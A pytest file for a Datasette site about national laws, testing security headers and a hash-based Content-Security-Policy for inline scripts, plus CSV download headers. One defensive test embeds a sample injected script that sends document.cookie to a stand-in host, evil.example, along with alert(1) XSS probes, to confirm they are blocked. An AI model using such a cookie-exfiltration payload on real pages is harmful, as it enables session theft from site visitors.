"""Security headers on every response; a Content-Security-Policy that lets a
page run only the inline scripts its templates wrote."""

from __future__ import annotations

from pathlib import Path

import pytest

from ingest.site import csp
from tests.helpers import make_datasette

LAW = "sg-electronic-transactions-act-2010"
HTML_PAGES = [
    "/",
    f"/law/{LAW}",
    "/laws",
    "/laws/laws",
    "/laws/laws?_facet=country",
    f"/laws/laws/{LAW}",
    "/laws/-/query?sql=select+1",
    "/laws/laws_in_force?country=SG",
    "/compare",
    "/compare/data-protection",
    "/side-by-side?countries=SG,MY",
    "/country/SG",
    "/search?q=data",
    "/freshness",
    "/submit",
    "/-/versions",
    "/no-such-page",
]
DATA_PAGES = ["/laws/laws.json", "/compare.json", "/laws/laws.csv", "/compare.csv", "/country/SG.csv", "/assets/site.css"]


def _policy(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        name, *values = part.split()
        out[name] = values
    return out


@pytest.fixture(scope="module")
def ds(built_db: Path):  # type: ignore[no-untyped-def]
    return make_datasette(built_db)


@pytest.mark.parametrize("path", HTML_PAGES + DATA_PAGES)
async def test_every_response_carries_the_headers(ds, path: str) -> None:  # type: ignore[no-untyped-def]
    response = await ds.client.get(path)
    assert response.status_code < 500
    for name, value in csp.COMMON.items():
        assert response.headers[name] == value
    policy = _policy(response.headers["content-security-policy"])
    assert policy["frame-ancestors"] == ["'none'"]
    if path in DATA_PAGES:
        assert policy["default-src"] == ["'none'"]


@pytest.mark.parametrize("path", HTML_PAGES)
async def test_each_inline_script_of_a_page_is_allowed_by_hash(ds, path: str) -> None:  # type: ignore[no-untyped-def]
    """Fails when a template or a Datasette release brings an inline script of a new
    shape: review it, then add the line printed here to ingest/site/csp_scripts.txt."""
    response = await ds.client.get(path)
    allowed = set(_policy(response.headers["content-security-policy"])["script-src"])
    assert "'unsafe-inline'" not in allowed
    for code in csp.inline_scripts(response.text):
        digest = csp._csp_hash(code)
        assert digest in allowed, f"new inline script shape on {path}:\n{csp.shape_id(code)}  # {csp.shape(code)[:70]}"


def test_a_script_that_no_template_wrote_is_not_allowed() -> None:
    page = (
        '<script>window._datasetteTableData = {"a": 1};</script>'
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
        '<img src=x onerror="alert(1)"><button onclick="openColumnChooser()">'
    )
    script_src = _policy(csp.page_policy(page))["script-src"]
    assert csp._csp_hash('window._datasetteTableData = {"a": 1};') in script_src
    assert csp._csp_hash("fetch('https://evil.example/?c=' + document.cookie)") not in script_src
    assert csp._csp_hash("alert(1)") not in script_src
    assert csp._csp_hash("openColumnChooser()") in script_src and "'unsafe-hashes'" in script_src


def test_data_in_a_known_shape_cannot_smuggle_code() -> None:
    """Only JSON values are taken as data: code in their place changes the shape."""
    known = csp.shape_id('window._datasetteTableData = {"a": 1};')
    assert csp.shape_id("window._datasetteTableData = alert(1);") != known
    assert csp.shape_id('window._datasetteTableData = {"a": 1}; alert(1);') != known


@pytest.mark.parametrize(
    "path", ["/laws/laws.csv?country=TH", "/laws/laws.csv?_stream=on", "/laws/-/query.csv?sql=select+local_title+from+laws"]
)
async def test_datasette_csv_is_a_download_spreadsheets_read(ds, path: str) -> None:  # type: ignore[no-untyped-def]
    response = await ds.client.get(path)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="laws-')
    assert response.content.startswith("\ufeff".encode())
    assert response.content.count("\ufeff".encode()) == 1
    assert "พระราชบัญญัติ" in response.content.decode("utf-8")  # Thai titles arrive intact
